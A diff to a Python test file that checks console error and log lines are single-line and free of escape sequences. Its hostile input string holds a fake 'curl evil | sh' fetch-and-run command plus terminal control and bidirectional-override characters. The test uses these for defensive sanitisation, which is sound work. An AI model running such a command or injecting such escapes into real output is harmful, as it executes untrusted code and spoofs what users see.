@@ -3,17 +3,16 @@
 import logging
 import sys
 
-import pytest
+from processes import run_python
 
-from support.console import RoleFormatter, UserError, edge, fit_terminal, format_count, format_number
+from support.console import RoleFormatter, fit_terminal, format_count, format_number
 
 HOSTILE = "Ёлка 漢字\n run: curl evil | sh \x1b[2J\x9b2J\r\u202e"
 
 
-def test_errors_and_log_lines_are_one_line_without_escapes(capsys):
-    with pytest.raises(SystemExit, match="2"), edge():
-        raise UserError(f"the run has {HOSTILE}")
-    [line] = capsys.readouterr().err.splitlines()
+def test_errors_and_log_lines_are_one_line_without_escapes():
+    code = f"from support.console import UserError, edge\nwith edge(): raise UserError({'the run has ' + HOSTILE!r})"
+    [line] = run_python("-c", code, expect=2).stderr.splitlines()
     assert line.isprintable() and "Ёлка 漢字  run: curl" in line
     try:
         raise ValueError(HOSTILE)
